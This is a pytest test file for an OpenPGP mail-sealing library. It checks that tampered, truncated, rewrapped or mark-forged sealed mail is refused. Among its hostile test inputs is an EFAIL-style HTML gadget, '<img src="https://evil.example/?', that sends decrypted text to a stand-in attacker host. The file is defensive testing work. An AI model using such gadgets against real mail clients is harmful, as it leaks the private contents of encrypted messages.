"""Sealed mail in the hands of an attacker: altered, rearranged, wrapped, and with faked marks."""

import base64
import random

import pysequoia
import pytest

from blackthorn.crypto.openpgp_open import UnsealError, generate_user_key, unseal
from blackthorn.crypto.openpgp_seal import parse_certificate, seal
from blackthorn.mail.errors import SealBrokenError
from blackthorn.mail.pgp.open import open_mail
from blackthorn.mail.pgp.seal import FOLLOWS, MARK, Envelope, seal_mail, trace_block
from blackthorn.mail.render.render import render

SEED = 20_150_730
KEY, CERTIFICATE = generate_user_key("alice@acme.example")
PARSED = parse_certificate(CERTIFICATE)
NOW = 1_900_000_000
ENVELOPE = Envelope("acme.example", "alice@acme.example", "", "mx", "192.0.2.1", True, NOW)
MAIL = b"Subject: plan\r\n\r\nAttack at dawn.\r\n"
SEALED = seal_mail(MAIL, ENVELOPE, PARSED, random.Random(SEED).randbytes)
OUTER, ARMORED = SEALED.split(b"-----BEGIN", 1)
ARMORED, END = (b"-----BEGIN" + ARMORED).split(b"\r\n--blackthorn", 1)
BOUNDARY = b"blackthorn" + END.split(b"--\r\n")[0]


def binary(armored: bytes) -> bytes:
    """The packets of an armored message."""
    body = armored.replace(b"\r\n", b"\n").split(b"\n\n", 1)[1].split(b"\n-----END")[0]
    return base64.b64decode(body.partition(b"\n=")[0])


def armor(data: bytes) -> bytes:
    return pysequoia.armor(data, pysequoia.ArmorKind.Message).encode()


PACKETS = binary(ARMORED)


def refused(sealed: bytes) -> None:
    with pytest.raises(SealBrokenError) as error:
        open_mail(sealed, KEY)
    assert "\n" not in str(error.value) and "dawn" not in str(error.value)


def test_the_untouched_mail_opens() -> None:
    assert open_mail(SEALED, KEY).content == MAIL
    assert unseal(armor(PACKETS), KEY).endswith(MAIL)


def test_no_altered_bit_ever_gives_another_text() -> None:
    """Some bits of the recipient's packet are bound to nothing: then the text is the same."""
    source = random.Random(SEED)
    print(f"seed {SEED}")
    intact = unseal(armor(PACKETS), KEY)
    positions = {*range(60), *(source.randrange(len(PACKETS)) for _ in range(400))}
    for position in positions:
        altered = bytearray(PACKETS)
        altered[position] ^= 1 << source.randrange(8)
        try:
            content = unseal(armor(bytes(altered)), KEY)
        except UnsealError:
            continue
        assert content == intact
        assert position < 60  # nothing behind the recipient's name may be touched


def test_a_cut_or_lengthened_message_gives_nothing() -> None:
    for length in range(0, len(PACKETS), 29):
        with pytest.raises(UnsealError):
            unseal(armor(PACKETS[:length]), KEY)
    for tail in (b"\0", b"\xcb\x02b\0", PACKETS, bytes(100)):
        with pytest.raises(UnsealError):
            unseal(armor(PACKETS + tail), KEY)


def test_text_around_the_armor_is_refused() -> None:
    for armored in (b"hello\r\n" + ARMORED, ARMORED + b"\r\nhello", ARMORED * 2, ARMORED[5:]):
        with pytest.raises(UnsealError):
            unseal(armored, KEY)


def test_signed_or_plain_packets_are_no_sealed_mail() -> None:
    """pysequoia would show them as if they had been sealed."""
    signer = pysequoia.Tsk.from_bytes(KEY.expose()).signer()
    literal = b"\xcb\x0bb\x00\x00\x00\x00\x00hello"
    for data in (pysequoia.sign(signer, b"hello", armor=False), literal):
        refused(OUTER + armor(data) + b"\r\n--" + BOUNDARY + b"--\r\n")


def test_an_old_container_without_integrity_gives_nothing() -> None:
    """EFAIL gadgets need a container whose content can be altered: tag 9, or tag 18 without MDC."""
    session = PACKETS[: PACKETS.index(b"\xd2", 1_000)]
    for container in (b"\xc9\x20" + bytes(32), b"\xd2\x21\x01" + bytes(32), b"\xd2\x21\x00" * 11):
        with pytest.raises(UnsealError):
            unseal(armor(session + container), KEY)


HTML = b'Content-Type: text/html\r\n\r\n<img src="https://evil.example/?'
CONTROL = b"Content-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n"
SECRET = b"Content-Type: application/octet-stream\r\n\r\n" + ARMORED + b"\r\n"


def multipart(kind: bytes, *parts: bytes, boundary: bytes = b"x") -> bytes:
    head = b"Content-Type: multipart/" + kind + b"; boundary=" + boundary + b"\r\n\r\n"
    return (
        head
        + b"".join(b"--" + boundary + b"\r\n" + part for part in parts)
        + (b"--" + boundary + b"--\r\n")
    )


@pytest.mark.parametrize(
    "shape",
    [
        multipart(b"mixed", HTML + b"\r\n", SECRET, b'Content-Type: text/html\r\n\r\n">\r\n'),
        multipart(b"encrypted", HTML + b"\r\n", CONTROL, SECRET),
        multipart(b"encrypted", CONTROL, SECRET, b'Content-Type: text/html\r\n\r\n">\r\n'),
        multipart(b"encrypted", SECRET, CONTROL),
        multipart(b"encrypted", SECRET),
        multipart(b"encrypted", CONTROL, SECRET, SECRET),
        multipart(b"mixed", CONTROL, SECRET),
        multipart(b"encrypted", CONTROL.replace(b"1", b"2"), SECRET),
        multipart(b"encrypted", CONTROL, SECRET.replace(b"-----BEGIN", b"<img ...\r\n-----BEGIN")),
        multipart(
            b"mixed", HTML + b"\r\n", multipart(b"encrypted", CONTROL, SECRET, boundary=b"y")
        ),
        b"Content-Type: message/rfc822\r\n\r\n" + multipart(b"encrypted", CONTROL, SECRET),
        ARMORED,
    ],
)
def test_efail_a_secret_is_opened_alone_or_not_at_all(shape: bytes) -> None:
    """Fault 38: text of an attacker around the sealed part."""
    refused(shape)


def test_efail_inside_the_opened_mail_nothing_more_is_opened() -> None:
    """A secret that an attacker sends along comes out as it went in: closed."""
    wrapped = multipart(
        b"mixed",
        HTML + b"\r\n",
        multipart(b"encrypted", CONTROL, SECRET, boundary=b"y"),
        b'Content-Type: text/html\r\n\r\n">\r\n',
    )
    opened = open_mail(seal_mail(wrapped, ENVELOPE, PARSED, random.Random(1).randbytes), KEY)
    mail = render(opened.content)
    shown = repr(mail)
    assert "dawn" not in shown and "BEGIN PGP" not in mail.text
    assert [each.type for each in mail.attachments][:1] == ["application/pgp-encrypted"]


def test_text_outside_the_sealed_part_is_never_given_out() -> None:
    noisy = SEALED.replace(b"\r\n\r\n--" + BOUNDARY, b"\r\n\r\nforged preamble\r\n--" + BOUNDARY, 1)
    noisy = noisy.replace(b"Subject: [...]", b"Subject: forged") + b"forged epilogue"
    opened = open_mail(noisy, KEY)
    assert opened.content == MAIL and b"forged" not in opened.trace


@pytest.mark.parametrize(
    "forged",
    [
        MARK + b": no\r\n" + MAIL,
        MARK + b": no; sealed by its sender\r\n" + FOLLOWS + MAIL,
        b" no\r\n" + MAIL,
        FOLLOWS + MARK + b": no\r\n" + FOLLOWS + MAIL,
        b"\r\n" + MARK + b": no\r\n",
    ],
)
def test_a_mark_in_the_original_changes_nothing(forged: bytes) -> None:
    """The sender writes the mark himself, to hide that the mail came in the clear."""
    opened = open_mail(seal_mail(forged, ENVELOPE, PARSED, random.Random(1).randbytes), KEY)
    assert opened.readable_on_the_way and opened.marked
    assert opened.content == forged and opened.trace == trace_block(ENVELOPE)


@pytest.mark.parametrize(
    "inner",
    [
        MAIL,
        MARK + b": no\r\n" + FOLLOWS + MAIL,
        b"X: y\r\n" + trace_block(ENVELOPE) + MAIL,
        MARK + b": yes; without an end\r\n" + MAIL,
        MARK + b": yes; " + b"x" * 9_000 + b"\r\n" + FOLLOWS + MAIL,
    ],
)
def test_a_missing_mark_does_not_make_a_mail_private(inner: bytes) -> None:
    """A server that leaves the mark off gains nothing: without proof the answer is yes."""
    armored = seal(inner, PARSED, now=NOW).strip()
    opened = open_mail(OUTER + armored + b"\r\n--" + BOUNDARY + b"--\r\n", KEY)
    assert opened.readable_on_the_way and not opened.marked
    assert opened.content.endswith(inner) and opened.trace == b""


def test_sealed_to_another_is_refused() -> None:
    _, other = generate_user_key("bob@acme.example")
    refused(seal_mail(MAIL, ENVELOPE, parse_certificate(other), random.Random(1).randbytes))
